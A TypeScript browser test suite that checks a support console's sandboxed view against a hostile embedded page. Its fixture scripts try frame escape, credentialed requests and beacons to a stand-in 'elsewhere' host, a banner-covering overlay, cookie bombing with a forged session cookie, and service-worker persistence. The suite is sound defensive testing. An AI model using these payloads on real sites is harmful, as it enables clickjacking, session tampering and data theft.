import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { signIn, type Visitor } from '../support/browser.ts'
import { type Chromium, openChromium } from '../support/chromium.ts'
import { isLong } from '../support/long.ts'
import { signInAs } from '../support/person.ts'
import { type Rig, startRig } from '../support/rig.ts'
import { stepIn } from '../support/step-in.ts'

/** What a page of the product tries: markup and script; `$ELSEWHERE` and `$CONSOLE` are those origins. */
type Attack = { html?: string; script?: string; headers?: Record<string, string | string[]> }

/** One name for each thing that was tried, and what came of it. */
type Tried = Record<string, string>

let rig: Rig
let browser: Chromium
let page: Page
let rob: Visitor
let elsewhere: { url: string; reached: string[]; close(): Promise<void> }
/** Requests at the console that no page of its own has made. */
const atConsole: string[] = []
const windows: string[] = []
const downloads: string[] = []
const attacks = new Map<string, Attack>()

/** A server that nothing from a view may reach. */
const startElsewhere = async () => {
  const reached: string[] = []
  const server = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<h1>Elsewhere</h1>')
  })
  server.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const close = () =>
    new Promise<void>((done) => {
      server.close(() => done())
      server.closeAllConnections()
    })
  return { url: `http://elsewhere.localhost:${(server.address() as AddressInfo).port}`, reached, close }
}

const prelude = `
const tried = window.tried = {}
const attempt = async (name, act) => {
  try { tried[name] = 'done: ' + String(await act()) } catch (error) { tried[name] = error.name }
}
const later = (ms) => new Promise((done) => setTimeout(done, ms))
const click = (markup) => { const box = document.createElement('div'); box.innerHTML = markup; document.body.append(box); box.querySelector('a,button').click() }
`

const render = ({ html = '', script = '' }: Attack): string =>
  `<!doctype html><title>Reports</title><body><h1>Reports</h1>${html}<script>${prelude}window.finished = (async () => {${script}})()</script>`
    .replaceAll('$ELSEWHERE', elsewhere.url)
    .replaceAll('$CONSOLE', rig.console_url)

const serveAttack = (request: IncomingMessage, response: ServerResponse): void => {
  const attack = attacks.get((request.url ?? '').split('/').at(-1) ?? '')
  if (!attack) return void response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Honest page</h1>')
  response.writeHead(200, { 'content-type': 'text/html', ...attack.headers }).end(render(attack))
}

const noteForeign = (message: unknown): void => {
  const { request } = message as { request: IncomingMessage }
  const { 'sec-fetch-site': site, origin, referer } = request.headers
  if (request.socket.localPort !== Number(new URL(rig.console_url).port)) return
  const isForeign =
    (site !== undefined && site !== 'same-origin' && site !== 'none') || (origin !== undefined && origin !== rig.console_url)
  if (isForeign)
    atConsole.push(
      `${request.method} ${request.url} from ${origin ?? referer} (${site}) ${request.headers.cookie === undefined ? 'without a cookie' : 'with cookies'}`,
    )
}

const open = async (): Promise<string> => {
  const answer = await rob.send('POST', '/api/sessions', { tenant_id: 'ten_0001', reason: 'Export came out empty', ticket: 'SUP-4831' })
  expect(answer.status).toBe(201)
  return ((await answer.json()) as { session: { id: string } }).session.id
}

let sessionId: string
const messages = isLong ? 100_000 : 10_000

beforeAll(async () => {
  rig = await startRig()
  elsewhere = await startElsewhere()
  rig.upstream.answer = serveAttack
  subscribe('http.server.request.start', noteForeign)
  rob = await signIn(rig.console_url, 'rob')
  await vi.waitFor(async () => expect((await rob.get('/api/tenants/ten_0001')).status).toBe(200), { timeout: 30_000, interval: 200 })
  sessionId = await open()
  browser = await openChromium({ storageInFrames: true })
  page = browser.page
  browser.context.on('page', (other) => windows.push(other.url()))
  page.on('download', (download) => downloads.push(download.url()))
  await signInAs(page, rig.console_url, 'rob')
}, 120_000)

afterAll(async () => {
  unsubscribe('http.server.request.start', noteForeign)
  await browser?.close()
  await elsewhere?.close()
  await rig?.close()
})

const banner = () => page.getByRole('region', { name: 'Stepped in' })

/** Whether all of the banner is on top of everything, where it always is. */
const isBannerOnTop = (): Promise<boolean> =>
  page.evaluate(() => {
    const shown = document.querySelector('[aria-label="Stepped in"]')
    if (!shown || document.fullscreenElement || document.pictureInPictureElement) return false
    const { left, top, width, height } = shown.getBoundingClientRect()
    const at = [0.02, 0.3, 0.6, 0.98].flatMap((x) => [0.1, 0.5, 0.9].map((y) => [left + width * x, top + height * y] as const))
    return width > 300 && height > 10 && at.every(([x, y]) => shown.contains(document.elementFromPoint(x, y)))
  })

/** Lets the product answer with this page, and shows it in a view. */
const show = async (name: string, attack: Attack): Promise<Frame> => {
  attacks.set(name, attack)
  return await stepIn(page, rig.console_url, sessionId, `/v1/reports/${name}`)
}

/** The same, and what it tried once it has tried everything. */
const run = async (name: string, attack: Attack): Promise<{ frame: Frame; tried: Tried }> => {
  const frame = await show(name, attack)
  await frame.evaluate(() => (window as unknown as { finished: Promise<void> }).finished)
  return { frame, tried: await frame.evaluate(() => (window as unknown as { tried: Tried }).tried) }
}

const expectContained = async (): Promise<void> => {
  expect(new URL(page.url()).pathname).toBe(`/sessions/${sessionId}/view`)
  expect(browser.context.pages()).toEqual([page])
  expect(windows).toEqual([])
  expect(downloads).toEqual([])
  expect(elsewhere.reached).toEqual([])
  expect(atConsole).toEqual([])
  expect(await isBannerOnTop()).toBe(true)
}

describe('SE-1 WB-4 a hostile page of the product in a view', () => {
  afterEach(expectContained)

  it('cannot leave its frame', async () => {
    const { tried, frame } = await run('leaves', {
      script: `
        await attempt('top.location', () => { top.location = '$ELSEWHERE/top' })
        await attempt('top.location.href', () => { top.location.href = '$ELSEWHERE/href' })
        await attempt('parent.location.replace', () => parent.location.replace('$ELSEWHERE/replace'))
        await attempt('window.open', () => window.open('$ELSEWHERE/open'))
        await attempt('window.open top', () => window.open('$ELSEWHERE/open-top', '_top'))
        await attempt('window.open parent', () => window.open('$ELSEWHERE/open-parent', '_parent'))
        await attempt('link to top', () => click('<a href="$ELSEWHERE/a" target="_top">x</a>'))
        await attempt('link to a window', () => click('<a href="$ELSEWHERE/b" target="_blank" rel="opener">x</a>'))
        await attempt('form to top', () => click('<form action="/v1/reports/1" target="_top"><button>x</button></form>'))
        await attempt('form to a window', () => click('<form action="/v1/reports/1" target="_blank"><button>x</button></form>'))
        await attempt('parent.document', () => parent.document.title)
        await attempt('top.localStorage', () => top.localStorage.length)
        await attempt('opener', () => String(window.opener))
        await attempt('top.close', () => top.close())
        await attempt('frameElement', () => String(window.frameElement))
        await attempt('document.domain', () => { document.domain = 'localhost'; return document.domain })
        await later(300)`,
    })
    expect(tried).toMatchObject({
      'top.location': 'SecurityError',
      'top.location.href': 'SecurityError',
      'parent.location.replace': 'SecurityError',
      'window.open': 'done: null',
      'parent.document': 'SecurityError',
      'top.localStorage': 'SecurityError',
      opener: 'done: null',
      frameElement: 'done: null',
    })
    expect(await frame.evaluate(() => document.title)).toBe('Reports')
  })

  it('cannot leave its frame from a frame of its own with another sandbox', async () => {
    await run('nests', {
      html: `
        <iframe sandbox="allow-scripts allow-top-navigation allow-popups allow-same-origin" srcdoc="<script>try{top.location='$ELSEWHERE/nested'}catch{};open('$ELSEWHERE/nested-open')</script>"></iframe>
        <iframe src="$CONSOLE/sessions"></iframe><iframe src="$CONSOLE/sign-in"></iframe><object data="$CONSOLE/"></object><embed src="$CONSOLE/">
        <iframe src="$ELSEWHERE/frame"></iframe>`,
      script: 'await later(500)',
    })
    expect(page.frames().filter((frame) => frame !== page.mainFrame() && frame.url().startsWith(rig.console_url))).toEqual([])
  })

  it('cannot take its frame to elsewhere', async () => {
    for (const [name, script] of [
      ['location', "location = '$ELSEWHERE/self'"],
      ['data', "location = 'data:text/html,<h1>fake</h1>'"],
      ['blob', "location = URL.createObjectURL(new Blob(['<h1>fake</h1>'], { type: 'text/html' }))"],
      ['console', "location = '$CONSOLE/sessions'"],
    ] as const) {
      await show(`goes-${name}`, { script: `await later(50); ${script}` })
      await page.waitForTimeout(300)
      await expectContained()
      const [frame] = page.mainFrame().childFrames()
      // What stays there is the page, or the browser's own that says what was blocked.
      expect(frame?.url(), name).toMatch(/\/v1\/reports\/goes-|^chrome-error:/)
    }
    await run('goes-javascript', {
      script: "await attempt('javascript', () => { location = 'javascript:top.location=\"$ELSEWHERE/js\"' }); await later(200)",
    })
    await run('goes-refresh', { html: '<meta http-equiv="refresh" content="0;url=$ELSEWHERE/refresh">', script: 'await later(100)' }).catch(
      () => {},
    )
    await page.waitForTimeout(300)
  })

  it('can send nothing to elsewhere, nor to the console', async () => {
    const to = (origin: string, name: string) => `
      await attempt('${name} fetch', () => fetch('${origin}/api/me?fetch', { credentials: 'include' }).then((answer) => answer.status))
      await attempt('${name} no-cors', () => fetch('${origin}/api/me?no-cors', { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.type))
      await attempt('${name} post', () => fetch('${origin}/auth/sign-out', { method: 'POST', credentials: 'include', mode: 'no-cors' }).then((answer) => answer.type))
      await attempt('${name} xhr', () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = () => done(x.status); x.onerror = fail; x.open('GET', '${origin}/xhr'); x.send() }))
      await attempt('${name} image', () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(new Error()); i.src = '${origin}/image' }))
      await attempt('${name} socket', () => new Promise((done, fail) => { const s = new WebSocket('${origin}/socket'.replace('http', 'ws')); s.onopen = done; s.onerror = () => fail(new Error()) }))
      await attempt('${name} stream', () => new Promise((done, fail) => { const s = new EventSource('${origin}/stream', { withCredentials: true }); s.onopen = done; s.onerror = () => fail(new Error()) }))
      await attempt('${name} script', () => new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = () => fail(new Error()); s.src = '${origin}/script'; document.head.append(s) }))
      await attempt('${name} module', () => import('${origin}/module'))
      await attempt('${name} worker', () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${origin}/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => data ? done() : fail(new Error()); w.onerror = () => fail(new Error()) }))
      navigator.sendBeacon('${origin}/beacon', 'x')
      for (const [rel, as] of [['stylesheet'], ['prefetch'], ['preload', 'image'], ['modulepreload'], ['icon'], ['manifest']]) {
        const link = Object.assign(document.createElement('link'), { rel, href: '${origin}/link-' + rel }); if (as) link.as = as; document.head.append(link) }
      document.head.append(Object.assign(document.createElement('style'), { textContent: "@import '${origin}/import'; body { background: url(${origin}/background) } @font-face { font-family: x; src: url(${origin}/font) } h1 { font-family: x }" }))
      document.body.append(Object.assign(document.createElement('video'), { src: '${origin}/video', autoplay: true }), Object.assign(document.createElement('audio'), { src: '${origin}/audio', autoplay: true }))
      click('<a href="/v1/reports" ping="${origin}/ping" target="none">x</a>')
      document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['${origin}/speculation'] }] }) }))`
    const { tried } = await run('sends', { script: `${to('$ELSEWHERE', 'elsewhere')}${to('$CONSOLE', 'console')}; await later(1500)` })
    for (const [name, outcome] of Object.entries(tried)) expect([name, outcome]).not.toEqual([name, expect.stringContaining('done')])
    expect(Object.keys(tried)).toHaveLength(20)
    for (const origin of ['$ELSEWHERE', '$CONSOLE'])
      for (const [n, send] of [
        `click('<form method="post" action="${origin}/form"><button name="a" value="secret">x</button></form>')`,
        `click('<form method="post" action="/v1/reports"><button formaction="${origin}/formaction">x</button></form>')`,
        `const form = Object.assign(document.createElement('form'), { action: '${origin}/script' }); document.body.append(form); form.submit()`,
      ].entries()) {
        await show(`submits-${n}`, { script: send })
        await page.waitForTimeout(200)
      }
  })

  it('cannot have its links lead elsewhere by a base', async () => {
    const { frame } = await run('base', {
      html: `<base href="$ELSEWHERE/"><a id="link" href="reports">x</a><img src="pixel"><form id="form" action="send"><button>x</button></form>`,
      script: 'await later(200); setTimeout(() => document.getElementById("form").requestSubmit(), 200)',
    })
    expect(await frame.evaluate(() => (document.querySelector('#link') as HTMLAnchorElement).href)).toMatch(
      /localhost:\d+\/v1\/reports\/reports$/,
    )
    await frame.waitForURL(/\/v1\/reports\/send\?/)
  })

  it('cannot be what its answer says: framed by others, with a policy, a refresh or cookies of its own', async () => {
    const answered = page.waitForResponse((response) => response.url().endsWith('/v1/reports/headers'))
    await show('headers', {
      headers: {
        'content-security-policy': 'frame-ancestors *; sandbox allow-top-navigation allow-popups allow-scripts',
        'x-frame-options': 'DENY',
        'clear-site-data': '"*"',
        refresh: `0;url=${elsewhere.url}/refresh`,
        'set-cookie': ['a=b; Domain=localhost', '__Host-countersign-view=x; Path=/; Secure'],
        'service-worker-allowed': '/',
        'strict-transport-security': 'max-age=99999999',
        link: `<${elsewhere.url}/early>; rel=preload; as=script`,
        'reporting-endpoints': `x="${elsewhere.url}/reports"`,
        'permissions-policy': 'fullscreen=*',
        'access-control-allow-origin': '*',
        'cross-origin-opener-policy': 'unsafe-none',
        'x-dns-prefetch-control': 'on',
      },
    })
    const headers = await (await answered).allHeaders()
    expect(headers['content-security-policy']).toContain(`frame-ancestors ${rig.console_url} `)
    expect(headers['content-security-policy']).toMatch(/sandbox allow-scripts allow-forms allow-same-origin$/)
    const gone = [
      'x-frame-options',
      'clear-site-data',
      'refresh',
      'set-cookie',
      'service-worker-allowed',
      'link',
      'reporting-endpoints',
      'access-control-allow-origin',
    ]
    for (const name of gone) expect([name, headers[name]]).toEqual([name, undefined])
    expect(headers['x-dns-prefetch-control']).toBe('off')
    await page.waitForTimeout(300)
  })

  it('cannot cover the banner, with a gesture or without', async () => {
    const fake =
      '<div id="fake" style="position:fixed;inset:-9999px 0 0 0;z-index:2147483647;background:#fff">You are not in a session</div>'
    const { frame, tried } = await run('covers', {
      html: `${fake}<dialog id="dialog">fake</dialog><div id="pop" popover style="position:fixed;inset:-500px">fake</div>`,
      script: `
        document.getElementById('dialog').showModal()
        document.getElementById('pop').showPopover()
        await attempt('fullscreen', () => document.documentElement.requestFullscreen())
        await attempt('alert', () => alert('fake'))
        await attempt('confirm', () => confirm('fake'))
        await attempt('prompt', () => prompt('fake'))
        await attempt('print', () => print())
        document.body.onclick = async () => {
          await attempt('fullscreen by a click', () => document.documentElement.requestFullscreen())
          await attempt('pointer lock by a click', () => document.body.requestPointerLock())
          await attempt('window by a click', () => window.open('$ELSEWHERE/clicked'))
          await attempt('picture by a click', () => window.documentPictureInPicture.requestWindow())
          await attempt('top by a click', () => { top.location = '$ELSEWHERE/clicked-top' })
          window.clicked = true
        }`,
    })
    expect(tried.fullscreen).not.toContain('done')
    await expectContained()
    await frame.evaluate(() => (document.querySelector('#dialog') as HTMLDialogElement).close())
    await frame.locator('#fake').click({ force: true, position: { x: 200, y: 10_200 } })
    await frame.waitForFunction(() => (window as unknown as { clicked?: boolean }).clicked)
    const after = await frame.evaluate(() => (window as unknown as { tried: Tried }).tried)
    for (const name of ['fullscreen by a click', 'picture by a click', 'top by a click']) expect(after[name], name).not.toContain('done')
    expect(after['window by a click']).toBe('done: null')
  })

  it(`cannot speak for the view: ${messages.toLocaleString('en')} messages to its parent change nothing`, async () => {
    const { frame } = await run('floods', {
      script: `
        const said = [{ countersign: 'ready', browser: 'x'.repeat(43) }, { countersign: 'entered' }, { countersign: 'refused', code: 'session_revoked' }, { countersign: 'enter', code: 'cs_view_' + 'x'.repeat(43), path: '/' }, 'x', null, 7, { a: { b: [] } }]
        for (let n = 0; n < ${messages}; n++) { parent.postMessage(said[n % said.length], '*'); if (n % 5000 === 0) await later(0) }`,
    })
    expect(await frame.evaluate(() => document.title)).toBe('Reports')
    // The console goes on.
    expect(await page.evaluate(() => 1 + 1)).toBe(2)
  })

  it('cannot lead the console away by the history', async () => {
    const { frame } = await run('history', {
      script: `
        for (let n = 0; n < 1000; n++) { try { history.pushState({}, '', '/v1/reports/history?' + n) } catch {} }
        await attempt('spoofed', () => history.pushState({}, '', '$CONSOLE/sessions'))`,
    })
    expect(await frame.evaluate(() => (window as unknown as { tried: Tried }).tried.spoofed)).toBe('SecurityError')
    const before = page.url()
    await frame.evaluate(() => history.go(-history.length + 1)).catch(() => {})
    await page.waitForTimeout(500)
    expect(page.url()).toBe(before)
  })

  it('reaches the console as nobody at all, by a hint that no policy governs', async () => {
    await run('hints', {
      script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prerender', href: '$CONSOLE/api/me' }))`,
    })
    await expect.poll(() => atConsole).toEqual([expect.stringMatching(/^GET \/api\/me from .* without a cookie$/)])
    atConsole.length = 0
  })

  it('can start no download', async () => {
    await run('downloads', {
      html: `<a id="a" download="x.exe" href="data:application/octet-stream,x">x</a><a id="b" download href="/v1/reports/1">x</a>`,
      script: 'document.getElementById("a").click(); document.getElementById("b").click(); await later(500)',
    })
  })

  it('leaves nothing behind for another view, nor for the console', async () => {
    const { tried } = await run('stays', {
      script: `
        await attempt('service worker', () => navigator.serviceWorker.register('/v1/reports/worker.js'))
        await attempt('service worker of all', () => navigator.serviceWorker.register('/v1/reports/worker.js', { scope: '/' }))
        await attempt('local storage', () => localStorage.setItem('left', 'behind'))
        await attempt('database', () => new Promise((done, fail) => { const r = indexedDB.open('left'); r.onsuccess = done; r.onerror = fail }))
        await attempt('cache', async () => (await caches.open('left')).put('/x', new Response('behind')))
        for (let n = 0; n < 300; n++) for (const domain of ['', '; domain=localhost', '; domain=.localhost', '; domain=' + location.hostname])
          document.cookie = 'bomb' + n + '=' + 'x'.repeat(3500) + '; path=/; SameSite=None; Secure' + domain
        for (const domain of ['', '; domain=localhost']) document.cookie = '__Host-countersign-session=evil; path=/; Secure; SameSite=None' + domain`,
    })
    for (const name of ['local storage', 'database', 'cache']) expect([name, tried[name]]).toEqual([name, expect.stringContaining('done')])
    expect(tried['service worker']).not.toContain('done')
    expect(tried['service worker of all']).not.toContain('done')
    expect(browser.context.serviceWorkers()).toEqual([])
    // Cookies of the page are its origin's alone: the console goes on, signed in.
    expect(await page.evaluate(async () => (await fetch('/api/me')).status)).toBe(200)
    const other = await open()
    const heard = await show('listens', { script: "new BroadcastChannel('left').onmessage = () => { window.heard = true }" })
    await heard.evaluate(() => (window as unknown as { finished: Promise<void> }).finished)
    const frame = await stepIn(page, rig.console_url, other, '/v1/reports/honest')
    const found = await frame.evaluate(async () => {
      new BroadcastChannel('left').postMessage('behind')
      return {
        stored: localStorage.length,
        databases: (await indexedDB.databases()).length,
        caches: (await caches.keys()).length,
        cookies: document.cookie.length,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
      }
    })
    expect(found).toEqual({ stored: 0, databases: 0, caches: 0, cookies: 0, workers: 0 })
    expect(await heard.evaluate(() => 0).catch(() => 'gone')).toBe('gone')
    await stepIn(page, rig.console_url, sessionId, '/v1/reports/honest')
  })

  it('is gone when its session ends, though it hangs', async () => {
    const frame = await show('hangs', {
      script: "addEventListener('beforeunload', (event) => event.preventDefault()); setTimeout(() => { for (;;); }, 100)",
    })
    const cookies = await browser.context.cookies(frame.url())
    await page.waitForTimeout(300)
    await page.getByRole('button', { name: 'End now' }).click()
    await page.locator('iframe').waitFor({ state: 'detached' })
    expect(cookies.map(({ name }) => name)).toContain('__Host-countersign-view')
    await banner().waitFor()
  })
})
